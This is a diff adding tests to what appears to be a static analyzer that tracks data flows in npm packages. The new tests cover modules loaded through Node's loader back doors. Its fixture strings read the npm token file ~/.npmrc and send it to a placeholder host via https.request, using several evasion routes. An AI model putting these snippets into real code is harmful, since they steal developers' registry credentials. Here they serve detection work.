@@ -52,6 +52,28 @@ describe("timers pass their extra arguments to the callback", () => {
   });
 });
 
+describe("modules reached through the loader's other doors", () => {
+  it.each([
+    ["module.constructor._load", "const f = module.constructor._load('fs');"],
+    ["require('module')._load", "const f = require('module')._load('fs');"],
+    ["require('node:module').Module._load", "const f = require('node:module').Module._load('fs');"],
+    ["createRequire(…)(…)", "const f = require('node:module').createRequire(__filename)('fs');"],
+    ["process.mainModule.constructor._load", "const f = process.mainModule.constructor._load('fs');"],
+    ["process.getBuiltinModule", "const f = process.getBuiltinModule('node:fs');"],
+  ])("%s is the module", async (_name, code) => {
+    const flows = await flowsOf(`${code}\nhttps.request('https://t.example.invalid/x').end(f.readFileSync(os.homedir() + '/.npmrc'));`);
+    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+
+  it("process.getBuiltinModule never loads a file of the package", async () => {
+    const flows = flowSummary(await analyze({
+      "index.js": "const m = process.getBuiltinModule('./send.js'); m.go(require('fs').readFileSync(require('os').homedir() + '/.npmrc'));",
+      "send.js": "exports.go = (d) => require('https').request('https://t.example.invalid/x').end(d);",
+    }));
+    expect(flows).toEqual([]);
+  });
+});
+
 describe("data carried by events, lines and URLs", () => {
   it("emit() reaches the listeners registered with on()", async () => {
     const flows = await flowsOf(`const E = require('events'); const e = new E();\ne.on('d', (x) => https.request('https://t.example.invalid/x').end(x));\ne.emit('d', ${READ});`);
